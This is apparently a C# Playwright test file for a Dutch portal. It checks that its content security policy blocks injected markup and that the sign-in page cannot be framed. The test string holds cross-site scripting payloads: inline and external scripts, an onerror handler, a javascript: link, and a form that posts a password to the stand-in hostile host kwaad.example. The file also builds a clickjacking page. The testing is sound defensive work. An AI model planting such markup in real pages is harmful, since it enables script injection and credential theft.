using System.Collections.Concurrent;
using Microsoft.Playwright;
using NotifyNl.Tests.Infrastructure;

namespace NotifyNl.Tests.Browser;

/// <summary>S9: what the policy forbids does not happen in a browser, and what the portal needs does.</summary>
[Collection(SharedPortal.Name)]
public sealed class PolicyTests(RunningPortal portal)
{
    // As if one of our pages had let something through.
    private const string Slipped = """
        <script>window.ran = 'inline'</script>
        <script src="http://kwaad.example/x.js"></script>
        <img src="data:image/png;base64,AA" onerror="window.ran = 'handler'">
        <a id="slipped" href="javascript:window.ran='address'">Klik</a>
        <iframe src="http://kwaad.example/frame"></iframe>
        <object data="http://kwaad.example/object"></object>
        <link rel="stylesheet" href="http://kwaad.example/x.css">
        <style>h1 { display: none }</style>
        <img src="http://kwaad.example/pixel.png">
        <form id="stolen" action="http://kwaad.example/form" method="post"><input name="wachtwoord" value="geheim"></form>
        """;

    [Fact]
    public async Task S9_WhatSlippedIn_DoesNotRun_CallsNobody_AndThePageLivesAllTheSame()
    {
        var page = await Chromium.OpenAsync();
        var called = new ConcurrentBag<string>();
        await page.RouteAsync("http://kwaad.example/**", route =>
        {
            called.Add(route.Request.Url);
            return route.FulfillAsync(new() { ContentType = "text/javascript", Body = "window.ran = 'elsewhere'" });
        });
        await page.SignInAsync(portal, "redacteur@voorbeeld.nl");
        await page.GetByRole(AriaRole.Link, new() { Name = "Uw uitkering" }).ClickAsync();
        await page.RouteAsync("**/templates/new", async route =>
        {
            var answer = await route.FetchAsync();
            await route.FulfillAsync(new() { Response = answer, Body = (await answer.TextAsync()).Replace("</main>", Slipped + "</main>", StringComparison.Ordinal) });
        });
        await page.GotoAsync(page.Url.TrimEnd('/') + "/templates/new");
        await Assertions.Expect(page.Locator("#slipped")).ToHaveCountAsync(1);
        await Assertions.Expect(page.Locator("[data-live=ja]")).ToBeVisibleAsync(new() { Timeout = 20_000 });
        await Assertions.Expect(page.GetByRole(AriaRole.Heading, new() { Level = 1 })).ToBeVisibleAsync();

        await page.EvaluateAsync("() => { document.getElementById('slipped').click(); document.getElementById('stolen').submit(); const late = document.createElement('script'); late.textContent = \"window.ran = 'made later'\"; document.body.append(late); }");
        await page.WaitForTimeoutAsync(300);
        Assert.Null(await page.EvaluateAsync<string?>("() => window.ran ?? null"));
        Assert.Empty(called);
        Assert.EndsWith("/templates/new", page.Url, StringComparison.Ordinal);
    }

    [Fact]
    public async Task S9_NoOtherSite_ShowsOursInAFrame()
    {
        var page = await Chromium.OpenAsync();
        await page.RouteAsync("http://kwaad.example/", route => route.FulfillAsync(new() { ContentType = "text/html", Body = $"<h1>Win een prijs</h1><iframe src=\"{portal.Address}/sign-in\"></iframe>" }));
        await page.GotoAsync("http://kwaad.example/");
        await page.WaitForTimeoutAsync(300);
        Assert.Equal(0, await page.FrameLocator("iframe").Locator("form").CountAsync());

        // The same page does open by itself.
        await page.GotoAsync($"{portal.Address}/sign-in");
        await Assertions.Expect(page.GetByLabel("E-mailadres")).ToBeVisibleAsync();
    }
}
